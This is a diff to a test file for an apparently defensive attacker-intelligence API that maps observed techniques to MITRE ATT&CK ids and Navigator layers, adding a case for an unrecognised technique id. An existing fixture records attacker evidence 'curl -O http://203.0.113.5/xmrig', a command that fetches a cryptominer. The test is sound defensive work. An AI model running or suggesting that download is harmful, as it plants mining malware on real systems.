@@ -73,6 +73,7 @@ describe('attacker intelligence API', () => {
           techniques: [
             { technique: 'T1105', ruleId: 'attack.curl', evidence: 'curl -O http://203.0.113.5/xmrig' },
             { technique: 'T9999', ruleId: 'attack.future', evidence: 'a rule newer than the catalogue' },
+            { technique: 'recon', ruleId: 'attack.odd', evidence: 'an id the Navigator cannot place' },
           ],
           iocs: [
             { kind: 'sha256', value: 'b'.repeat(64), source: 'download' },
@@ -136,6 +137,8 @@ describe('attacker intelligence API', () => {
       ['T1105', 2],
       ['T9999', 1],
     ])
+    // 'recon' is listed among the techniques but left out of the layer (not an ATT&CK id).
+    expect((await api.viewer.intel.techniques()).rows.map((row) => row.technique)).toContain('recon')
     expect(fleet.gradient.maxValue).toBe(2)
     const one = await api.viewer.intel.navigatorLayer({ attackerId: brute })
     expect(one.name).toContain('198.51.100.7')
